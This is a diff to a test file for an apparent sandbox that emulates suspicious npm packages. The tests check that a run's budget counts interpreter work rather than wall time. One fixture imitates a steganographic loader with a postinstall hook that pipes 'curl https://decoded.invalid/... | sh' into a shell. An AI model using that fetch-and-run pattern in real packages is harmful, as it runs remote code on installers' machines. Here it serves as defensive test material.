@@ -14,6 +14,7 @@ import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { makeCanaries, PERSONAS } from '../../src/emulate/canaries.js';
 import { buildConfig, type EmulationEntry } from '../../src/emulate/persona.js';
+import { WALL_FACTOR, WORK_PER_MS } from '../../src/emulate/engine.js';
 import { loadedFfiForTests, loadSandbox, restoredExactly, runInSandbox, sandboxReady, simulateUnknownShape, snapshotActive, useSnapshots, type RunOutcome } from '../../src/emulate/sandbox.js';
 
 const corpus = path.resolve(import.meta.dirname, '../../bench/recall/corpus');
@@ -29,7 +30,7 @@ function run(files: Map<string, string>, entry: EmulationEntry, persona: Persona
   const manifest = opts.manifest ?? { name: 'snap', version: '1.0.0' };
   const cfg = buildConfig(persona, entry, files, manifest, canaries);
   const perRun = opts.perRunMs ?? 20_000;
-  const out = runInSandbox({ cfg, files, esmPackage: manifest.type === 'module', deadline: performance.now() + perRun, minRunMs: perRun / 2, memoryBytes: opts.memoryBytes ?? 64 * 1024 * 1024 });
+  const out = runInSandbox({ cfg, files, esmPackage: manifest.type === 'module', work: perRun * WORK_PER_MS, wallMs: perRun * WALL_FACTOR, memoryBytes: opts.memoryBytes ?? 64 * 1024 * 1024 });
   return { ...out, cfg };
 }
 
@@ -189,6 +190,55 @@ describe('nothing of one run survives into the next', () => {
     run(pkg("globalThis.keep = []; for (let i = 0; i < 300; i++) globalThis.keep.push('y'.repeat(1e5) + i);"), probeEntry, 'linux', makeCanaries(), { memoryBytes: 256 * 1024 * 1024 });
     expect(restoredExactly()).toBe(true);
     expect(run(probe, probeEntry, 'linux').status).toBe('done');
+  });
+});
+
+describe('the budget is interpreter work, not time', () => {
+  // A decode loop that must finish before its payload runs, as a steganographic loader's does.
+  const decoder = pkg(`let x = 7; const b = new Uint8Array(4096);
+    for (let round = 0; round < 400; round++) for (let i = 0; i < b.length; i++) { x = (x * 31 + i) & 255; b[i] ^= x; }
+    require('child_process').execSync('curl https://decoded.invalid/' + x + ' | sh');`);
+  const entry: EmulationEntry = { file: 'index.js', reach: 'install', event: 'postinstall' };
+  const once = (work: number) => {
+    const cfg = buildConfig('linux', entry, decoder, { name: 'snap', version: '1.0.0' }, makeCanaries());
+    return runInSandbox({ cfg, files: decoder, esmPackage: false, work, wallMs: 60_000, memoryBytes: 64 * 1024 * 1024 });
+  };
+  const execs = (o: RunOutcome) => o.events.filter((e) => e.k === 'exec').length;
+
+  it('a run does the same work and reaches the same payload on a quiet machine and on a loaded one', async () => {
+    useSnapshots(true);
+    const quiet = once(1e9);
+    expect(quiet.status).toBe('done');
+    expect(execs(quiet)).toBe(1);
+    const need = quiet.work;
+    expect(need).toBeGreaterThan(10);
+    // Every core busy with another process while the same runs are given exactly the work the quiet run did, and half of it.
+    const { spawn } = await import('node:child_process');
+    const os = await import('node:os');
+    const hogs = Array.from({ length: os.availableParallelism() }, () => spawn(process.execPath, ['-e', 'for (;;) {}'], { stdio: 'ignore' }));
+    try {
+      await new Promise((r) => setTimeout(r, 300));
+      for (let i = 0; i < 2; i++) {
+        const loaded = once(need);
+        expect(loaded.work).toBe(need);
+        expect(loaded.status).toBe('done');
+        expect(execs(loaded)).toBe(1);
+        const short = once(Math.floor(need / 2));
+        expect(short.status).toBe('budget');
+        expect(short.work).toBe(Math.floor(need / 2));
+        expect(execs(short)).toBe(0);
+      }
+    } finally {
+      for (const h of hogs) h.kill('SIGKILL');
+    }
+  }, 60_000);
+
+  it('the wall clock is only a safety net: a run given endless work still stops at it', () => {
+    const cfg = buildConfig('linux', entry, pkg('for (;;) {}'), { name: 'snap', version: '1.0.0' }, makeCanaries());
+    const t0 = performance.now();
+    const r = runInSandbox({ cfg, files: pkg('for (;;) {}'), esmPackage: false, work: 1e12, wallMs: 150, memoryBytes: 64 * 1024 * 1024 });
+    expect(r.status).toBe('budget');
+    expect(performance.now() - t0).toBeLessThan(150 + 5000);
   });
 });
 
